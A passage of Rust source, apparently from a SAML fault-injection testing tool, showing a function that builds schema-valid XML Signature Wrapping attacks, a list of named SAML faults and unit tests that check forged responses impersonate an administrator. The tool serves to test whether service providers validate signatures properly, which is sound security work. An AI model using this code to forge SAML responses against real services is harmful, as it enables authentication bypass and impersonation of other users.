        _ => return Err(SamlFaultError::Shape("XSW variant")),
    };
    Ok(format!("{declaration}{rebuilt}"))
}

/// Where a schema-valid wrapping hides the signed original.
#[derive(Clone, Copy)]
enum Hiding {
    Advice,
    StatusDetail,
}

/// S-32: the wrapping stays valid against the SAML 2.0 schema, so an SP
/// that validates the schema before it checks signatures still meets it.
/// The Response keeps one Assertion child, the edited unsigned copy, and
/// the signed original goes where the schema takes an Assertion: the copy's
/// `Advice` (after `Conditions`, in the Assertion's sequence) or
/// `StatusDetail` (any element). Every ID stays unique.
fn schema_valid_wrap(signed: &str, identity: &Identity, hiding: Hiding) -> Result<String, SamlFaultError> {
    let assertion = assertion_span(signed)?;
    let original = signed[assertion.clone()].to_owned();
    let evil = evil_copy(&original, identity, true, true)?;
    match hiding {
        Hiding::Advice => {
            let conditions = element_span(&evil, "<saml2:Conditions ", "</saml2:Conditions>", 0)
                .ok_or(SamlFaultError::Shape("Conditions"))?;
            let evil = insert(&evil, conditions.end, &format!("<saml2:Advice>{original}</saml2:Advice>"));
            Ok(format!("{}{}{}", &signed[..assertion.start], evil, &signed[assertion.end..]))
        }
        Hiding::StatusDetail => {
            let replaced = format!("{}{}{}", &signed[..assertion.start], evil, &signed[assertion.end..]);
            let status_end = replaced.find("</saml2p:Status>").ok_or(SamlFaultError::Shape("Status"))?;
            Ok(insert(&replaced, status_end, &format!("<saml2p:StatusDetail>{original}</saml2p:StatusDetail>")))
        }
    }
}

impl fmt::Display for SamlFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            SamlFault::Unsigned => "unsigned",
            SamlFault::BadSignature => "bad-signature",
            SamlFault::UntrustedKey => "untrusted-key",
            SamlFault::UntrustedKeyValue => "untrusted-key-value",
            SamlFault::HmacWithCertificate => "hmac-with-certificate",
            SamlFault::CommentInDigestValue => "comment-in-digest-value",
            SamlFault::SecondSignedInfo => "second-signed-info",
            SamlFault::ExtraDigestValue => "extra-digest-value",
            SamlFault::ReferenceWholeDocument => "reference-whole-document",
            SamlFault::ReferenceOtherElement => "reference-other-element",
            SamlFault::TransformWithComments => "transform-with-comments",
            SamlFault::TransformXPath => "transform-xpath",
            SamlFault::Sha1 => "sha1",
            SamlFault::Oversized => "oversized",
            SamlFault::ShortSession => "short-session",
            SamlFault::WrongAudience => "wrong-audience",
            SamlFault::MissingAudience => "missing-audience",
            SamlFault::WrongRecipient => "wrong-recipient",
            SamlFault::WrongDestination => "wrong-destination",
            SamlFault::WrongIssuer => "wrong-issuer",
            SamlFault::Expired => "expired",
            SamlFault::ExpiredConfirmation => "expired-confirmation",
            SamlFault::ExpiredConditions => "expired-conditions",
            SamlFault::NotYetValid => "not-yet-valid",
            SamlFault::Skew(seconds) => return write!(f, "skew:{seconds:+}"),
            SamlFault::InResponseToMismatch => "in-response-to-mismatch",
            SamlFault::StatusResponder => "status-responder",
            SamlFault::HolderOfKey => "holder-of-key",
            SamlFault::SenderVouches => "sender-vouches",
            SamlFault::NoConfirmationData => "no-confirmation-data",
            SamlFault::CommentInNameId => "comment-in-nameid",
            SamlFault::Xsw(n) => return write!(f, "xsw{n}"),
            SamlFault::XswAdvice => "xsw-advice",
            SamlFault::XswStatusDetail => "xsw-status-detail",
            SamlFault::MultipleAssertions => "multiple-assertions",
            SamlFault::DoctypeEntity => "doctype-entity",
            SamlFault::EncryptedUnsigned => "encrypted-unsigned-assertion",
            SamlFault::LegacyEncryption => "legacy-encryption",
            SamlFault::SignOnly(mode) => return write!(f, "sign:{}", mode.as_str()),
        };
        f.write_str(name)
    }
}

impl FromStr for SamlFault {
    type Err = UnknownSamlFault;

    fn from_str(text: &str) -> Result<Self, UnknownSamlFault> {
        let unknown = || UnknownSamlFault(text.to_owned());
        if let Some(seconds) = text.strip_prefix("skew:") {
            let signed = seconds.starts_with('+') || seconds.starts_with('-');
            return match seconds.parse::<i64>() {
                Ok(value) if signed && value != 0 && value.abs() <= 31_536_000 => Ok(SamlFault::Skew(value)),
                _ => Err(unknown()),
            };
        }
        if let Some(mode) = text.strip_prefix("sign:") {
            return SigningMode::parse(mode).map(SamlFault::SignOnly).ok_or_else(unknown);
        }
        // `xsw` and a number is SAML Raider's numbering; the named,
        // schema-valid variants are found in the list below.
        if let Some(n) = text.strip_prefix("xsw")
            && let Ok(n) = n.parse::<u8>()
        {
            return if (1..=8).contains(&n) { Ok(SamlFault::Xsw(n)) } else { Err(unknown()) };
        }
        SamlFault::all()
            .into_iter()
            .find(|f| !matches!(f, SamlFault::Skew(_) | SamlFault::SignOnly(_)) && f.to_string() == text)
            .ok_or_else(unknown)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_fault_name_round_trips() {
        for fault in SamlFault::all() {
            assert_eq!(fault.to_string().parse::<SamlFault>(), Ok(fault));
        }
    }

    #[test]
    fn malformed_fault_names_rejected() {
        for bad in ["", "xsw9", "xsw0", "skew:10", "skew:+x", "skew:+0", "Unsigned"] {
            assert!(bad.parse::<SamlFault>().is_err(), "{bad}");
        }
    }

    #[test]
    fn xsw_fragments_keep_one_signed_original() {
        let signed = format!(
            "{}<saml2p:Response ID=\"r\" xmlns:saml2p=\"p\"><saml2:Issuer xmlns:saml2=\"a\">i</saml2:Issuer><saml2:Assertion ID=\"a1\" xmlns:saml2=\"a\"><ds:Signature xmlns:ds=\"d\">S</ds:Signature><saml2:NameID Format=\"f\">alice@acme.test</saml2:NameID></saml2:Assertion></saml2p:Response>",
            super::super::response::XML_DECLARATION
        );
        let identity = Identity { genuine: vec!["alice@acme.test".into()], impersonate: "admin@acme.test".into() };
        for n in 3..=8 {
            let out = xsw(n, &signed, &identity).unwrap();
            assert_eq!(out.matches("<ds:Signature ").count(), 1, "xsw{n}: {out}");
            assert!(out.contains(">admin@acme.test<"), "xsw{n}");
            assert!(out.contains(">alice@acme.test<"), "xsw{n}");
        }
    }
}
